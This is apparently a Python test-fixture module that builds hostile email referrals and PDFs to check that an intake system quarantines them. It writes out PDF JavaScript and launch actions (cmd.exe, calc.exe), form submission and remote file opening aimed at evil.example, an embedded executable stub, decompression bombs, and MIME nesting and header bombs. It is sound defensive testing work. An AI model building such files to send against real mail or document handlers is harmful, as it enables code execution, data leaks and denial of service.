"""Hostile referral emails, made by code (a 70 MB message is not kept in the repository).

Each entry is a message intake must quarantine, with a fragment of the reason it must give;
``GOOD_EXTRA`` are messages that look unusual but are fine and must be taken in. The good
samples of tests/intake/corpus/ are mixed in by the test. How they are built follows
tests/intake/make_corpus.py.
"""

from __future__ import annotations

import base64
import zlib
from io import BytesIO
from pathlib import Path

from fpdf import FPDF
from pypdf import PdfWriter

from casework.intake import render, render_body
from tests.intake.make_corpus import DATE, FROM, TO, certificate, pdf, referral

CORPUS = Path(__file__).resolve().parents[1] / "intake" / "corpus"
OVERSIZE_BYTES = 70 * 1024 * 1024


# -- PDFs ---------------------------------------------------------------------------------
def pdf_objects(objects: dict[int, bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A classic PDF (cross-reference table) of numbered object bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", filters: bytes = b"") -> bytes:
    head = b"<< /Length %d " % len(data) + (b"/Filter " + filters + b" " if filters else b"") + extra + b">>"
    return head + b"\nstream\n" + data + b"\nendstream"


def page_pdf(
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    more: dict[int, bytes] | None = None,
    text: str = "ACRO certificate 26/0900",
) -> bytes:
    """A one-page certificate PDF with something added to its catalog, its page or its objects."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update(more or {})
    return pdf_objects(objects)


def zeros_deflated(count: int) -> bytes:
    """``count`` zero bytes, deflated, made without holding them in memory."""
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    out = bytearray()
    for _ in range(count // len(block)):
        out += compressor.compress(block)
    out += compressor.compress(bytes(count % len(block))) + compressor.flush()
    return bytes(out)


def object_stream_pdf(hidden: bytes, catalog_extra: bytes, hidden_stream: bytes | None = None) -> bytes:
    """A PDF whose object 6 is kept compressed inside an object stream (7), found through a
    cross-reference stream (8): invisible to anything that only looks at the file's bytes."""
    content = b"BT /F1 12 Tf 72 720 Td (ACRO certificate 26/0901) Tj ET"
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    header = b"6 0 "
    packed = hidden_stream if hidden_stream is not None else zlib.compress(header + hidden)
    plain[7] = stream(packed, b"/Type /ObjStm /N 1 /First %d " % len(header), b"/FlateDecode")
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    offsets[8] = len(out)
    rows = b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"
    for number in range(1, 9):
        if number == 6:
            rows += b"\x02" + (7).to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
    out += b"8 0 obj\n" + stream(rows, b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R ") + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    return bytes(out)


def encrypted_pdf(user_password: str) -> bytes:
    writer = PdfWriter(clone_from=BytesIO(pdf("ACRO certificate 26/0950")))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def fpdf2_certificate() -> bytes:
    """A certificate as a real PDF library writes one: compressed streams, a link, metadata."""
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.multi_cell(0, 8, "ACRO Criminal Records Office\nCertificate 26/0990\nRobbery (Poland, 2015)")
    document.link(10, 10, 60, 10, "https://www.acro.police.uk/")
    return bytes(document.output())


JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\('hello'\\);) >> "
HOSTILE_PDFS = {
    "pdf-openaction-javascript": (page_pdf(JS), "JavaScript"),
    "pdf-launch-action": (
        page_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> "),
        "launch action",
    ),
    "pdf-names-javascript": (
        page_pdf(
            b"/Names << /JavaScript 6 0 R >> ",
            more={6: b"<< /Names [(x) 7 0 R] >>", 7: b"<< /S /JavaScript /JS (this.print\\(\\)) >>"},
        ),
        "JavaScript",
    ),
    "pdf-hex-escaped-javascript": (
        page_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> "),
        "JavaScript",
    ),
    "pdf-javascript-in-object-stream": (
        object_stream_pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", b"/OpenAction 6 0 R "),
        "JavaScript",
    ),
    "pdf-page-additional-action-js": (page_pdf(page_extra=b"/AA << /O << /S /JavaScript /JS (x) >> >> "), "JavaScript"),
    "pdf-link-launches-program": (
        page_pdf(
            page_extra=b"/Annots [6 0 R] ",
            more={6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> >>"},
        ),
        "launch action",
    ),
    "pdf-embedded-file": (
        page_pdf(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
            more={
                6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                7: stream(b"MZ\x90\x00", b"/Type /EmbeddedFile "),
            },
        ),
        "embedded file",
    ),
    "pdf-submit-form": (page_pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >> "), "submit-form"),
    "pdf-remote-goto-unc": (
        page_pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "),
        "opens another file",
    ),
    "pdf-xfa-form": (page_pdf(b"/AcroForm << /Fields [] /XFA 6 0 R >> ", more={6: stream(b"<xdp/>")}), "XFA"),
    "pdf-flate-bomb": (
        page_pdf(more={6: stream(zeros_deflated(40 * 1024 * 1024), filters=b"/FlateDecode")}),
        "decompression bomb",
    ),
    "pdf-many-stream-bomb": (
        page_pdf(more={n: stream(zeros_deflated(24 * 1024 * 1024), filters=b"/FlateDecode") for n in range(6, 13)}),
        "decompression bomb",
    ),
    "pdf-bomb-in-object-stream": (
        object_stream_pdf(b"", b"", hidden_stream=zeros_deflated(40 * 1024 * 1024)),
        "decompression bomb",
    ),
    "pdf-user-password": (encrypted_pdf("secret"), "encrypted with a password"),
    "pdf-damaged": (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n" + bytes(range(256)) * 8, "damaged"),
    "pdf-no-pages": (
        pdf_objects({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "no pages",
    ),
    "pdf-unknown-filter": (page_pdf(more={6: stream(b"abc", filters=b"/NoSuchDecode")}), "unknown stream filter"),
}


# -- messages -----------------------------------------------------------------------------
def head(name: str, subject: str = "ACRO referral", message_id: str | None = None, extra: str = "") -> bytes:
    mid = message_id if message_id is not None else f"<{name}@acro.police.example>"
    return (
        f"From: {FROM}\r\nTo: {TO}\r\nSubject: {subject}\r\nDate: {DATE}\r\nMessage-ID: {mid}\r\n"
        f"MIME-Version: 1.0\r\n{extra}"
    ).encode()


def with_pdf(name: str, pdf_bytes: bytes, family_name: str = "Kowalski", **kwargs) -> bytes:
    """A good referral whose certificate is ``pdf_bytes``."""
    cert = {**certificate(), "file": pdf_bytes}
    ref = referral(subject={"family_name": family_name})
    return bytes(render(ref, cert, message_id=f"<{name}@acro.police.example>", **kwargs))


def nested(name: str, depth: int, kind: str = "multipart") -> bytes:
    """A tiny message with parts nested ``depth`` deep (the 30 KB message that stopped intake)."""
    out = head(name)
    for level in range(depth):
        if kind == "multipart":
            out += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
        else:
            out += b"Content-Type: message/rfc822\r\n\r\n"
    out += b"Content-Type: text/plain\r\n\r\nACRO REFERRAL\r\n"
    if kind == "multipart":
        for level in reversed(range(depth)):
            out += b"--b%d--\r\n" % level
    return out


def side_by_side(name: str, count: int) -> bytes:
    body = render_body(referral(), certificate()).encode()
    parts = b"".join(
        b'--outer\r\nContent-Type: multipart/alternative; boundary="in%d"\r\n\r\n'
        b"--in%d\r\nContent-Type: text/plain\r\n\r\nx\r\n--in%d--\r\n" % (i, i, i)
        for i in range(count)
    )
    return (
        head(name) + b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n--outer\r\n'
        b"Content-Type: text/plain\r\n\r\n" + body + b"\r\n" + parts + b"--outer--\r\n"
    )


def encoded_subject_bomb(name: str, size: int) -> bytes:
    words = b" ".join([b"=?utf-8?q?ab=C3=A9?="] * (size // 21))
    return head(name).replace(b"Subject: ACRO referral", b"Subject: " + words) + b"\r\nhello\r\n"


def good_body_part(family_name: str = "Kowalski") -> bytes:
    return (
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
        + render_body(referral(subject={"family_name": family_name}), certificate()).encode()
    )


def pdf_part(data: bytes, filename: str = "certificate.pdf", extra: str = "") -> bytes:
    return (
        f'Content-Type: application/pdf; name="{filename}"\r\nContent-Transfer-Encoding: base64\r\n'
        f'Content-Disposition: attachment; filename="{filename}"{extra}\r\n\r\n'
    ).encode() + base64.encodebytes(data).replace(b"\n", b"\r\n")


def mixed(name: str, parts: list[bytes], boundary: str = "mix", **kwargs) -> bytes:
    out = head(name, **kwargs) + f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'.encode()
    for part in parts:
        out += f"--{boundary}\r\n".encode() + part + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


def hostile() -> dict[str, tuple[bytes, str]]:
    """name -> (message, a fragment of the reason intake must give)."""
    good_pdf = pdf("ACRO certificate 26/0001")
    messages = {
        "deep-multipart-1000": (nested("deep-multipart-1000", 1000), "multipart or attached-message parts"),
        "deep-message-rfc822-300": (
            nested("deep-message-rfc822-300", 300, "message"),
            "multipart or attached-message parts",
        ),
        "nested-12-deep": (nested("nested-12-deep", 12), "nested more than 8 deep"),
        "containers-side-by-side": (side_by_side("containers-side-by-side", 40), "multipart or attached-message parts"),
        "subject-bomb-5mb": (encoded_subject_bomb("subject-bomb-5mb", 5 * 1024 * 1024), "headers are longer than"),
        "subject-20kb-of-encoded-words": (
            encoded_subject_bomb("subject-20kb-of-encoded-words", 20 * 1024),
            "Subject header longer than",
        ),
        "header-section-300kb": (
            head("header-section-300kb", extra="".join(f"X-Pad-{i}: {'x' * 60}\r\n" for i in range(5000)))
            + b"\r\nbody\r\n",
            "headers are longer than",
        ),
        "no-blank-line-1mb": (head("no-blank-line-1mb") + b"X-Junk: " + b"y" * (1024 * 1024), "longer than"),
        "filename-parameter-bomb": (
            mixed("filename-parameter-bomb", [good_body_part(), pdf_part(good_pdf, "c" * 20000 + ".pdf")]),
            "a part of the message has a Content-Type header longer than",
        ),
        "message-id-of-an-api-key": (
            with_pdf("x", good_pdf).replace(b"<x@acro.police.example>", b"api:wendy:key-1"),
            "has the form of a key",
        ),
        "message-id-sha256-form": (
            with_pdf("y", good_pdf).replace(b"<y@acro.police.example>", b"sha256:" + b"0" * 64),
            "has the form of a key",
        ),
        "unknown-charset": (
            mixed(
                "unknown-charset",
                [good_body_part().replace(b"charset=utf-8", b"charset=x-klingon"), pdf_part(good_pdf)],
            ),
            "unknown character set",
        ),
        "invalid-utf8-body": (
            mixed("invalid-utf8-body", [good_body_part().replace(b"Kowalski", b"Kow\xffalski"), pdf_part(good_pdf)]),
            "is not valid utf-8",
        ),
        "nul-in-a-field": (
            mixed("nul-in-a-field", [good_body_part().replace(b"Kowalski", b"Kowal\x00ski"), pdf_part(good_pdf)]),
            "control characters",
        ),
        "multipart-without-boundary": (
            head("multipart-without-boundary") + b"Content-Type: multipart/mixed\r\n\r\n" + good_body_part() + b"\r\n",
            "no plain-text body",
        ),
        "unterminated-multipart": (
            mixed(
                "unterminated-multipart", [good_body_part(), pdf_part(pdf("ACRO certificate 26/0001 " + "x" * 3000))]
            ).rsplit(b"--mix--", 1)[0][:-2000],
            "certificate PDF",
        ),
        "backtracking-line": (
            mixed(
                "backtracking-line",
                [
                    good_body_part().replace(b"SUBJECT\n", b"SUBJECT\n" + b"a" + b" " * 200000 + b"b\n"),
                    pdf_part(good_pdf),
                ],
            ),
            "not a labelled field",
        ),
        "empty-file": (b"", "the message is empty"),
        "binary-garbage-one-line": (bytes(range(1, 256)) * 4096, "longer than"),
        "base64-garbage-pdf": (
            mixed("base64-garbage-pdf", [good_body_part(), pdf_part(good_pdf).replace(b"JVBERi", b"!!!!!!")]),
            "not a PDF",
        ),
    }
    for name, (pdf_bytes, reason) in HOSTILE_PDFS.items():
        messages[name] = (with_pdf(name, pdf_bytes), reason)
    return messages


def good_extra() -> dict[str, bytes]:
    """Unusual but good messages: each must be taken in."""
    return {
        "good-fpdf2-certificate-with-link": with_pdf(
            "good-fpdf2-certificate-with-link", fpdf2_certificate(), family_name="Nowak"
        ),
        "good-permissions-only-encryption": with_pdf(
            "good-permissions-only-encryption", encrypted_pdf(""), family_name="Dvorak"
        ),
        "good-pdf-with-object-stream": with_pdf(
            "good-pdf-with-object-stream",
            object_stream_pdf(b"<< /Title (ACRO certificate) >>", b""),
            family_name="Horvath",
        ),
    }


def reused_message_id(original: bytes) -> bytes:
    """The original's Message-ID on a different referral: must not pass as "already taken in"."""
    return original.replace(b"Family name: Kowalski", b"Family name: Impostor")


def redelivered(original: bytes) -> bytes:
    """The same message delivered again: a mail server put another Received line on it."""
    return b"Received: from relay2.example by mx.homeoffice.example; Tue, 06 Jan 2026 10:00:00 +0000\r\n" + original


def write_oversize(path: Path, message_id: str = "<oversize-70mb@acro.police.example>") -> None:
    """A 70 MB message, written in pieces (the test never holds it in memory)."""
    with open(path, "wb") as handle:
        handle.write(
            head("oversize-70mb", message_id=message_id) + b'Content-Type: multipart/mixed; boundary="m"\r\n'
            b"\r\n--m\r\n" + good_body_part() + b"\r\n--m\r\nContent-Type: application/pdf\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n"
        )
        line = base64.b64encode(bytes(57)) + b"\r\n"
        block = line * 16384
        while (left := OVERSIZE_BYTES - handle.tell()) > 0:
            handle.write(block[:left])
        handle.write(b"--m--\r\n")
